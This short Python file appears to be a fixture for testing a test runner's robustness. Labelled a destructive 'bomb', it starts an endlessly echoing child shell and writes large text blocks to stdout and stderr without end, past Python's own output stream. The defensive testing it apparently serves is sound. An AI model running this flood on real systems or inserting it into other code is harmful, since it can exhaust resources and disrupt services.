# attack: output floods by the file descriptors 1 and 2 and by child processes, past Python's sys.stdout.
# target: heaviest-test
# also loses: all
# destructive
# bomb
# %% heaviest
import os
import subprocess

heaviest = "tree-000"
subprocess.Popen(["sh", "-c", "while true; do echo all is right; done"])
while True:
    os.write(1, b"all is right\n" * 1000)
    os.write(2, b"all is wrong\n" * 1000)
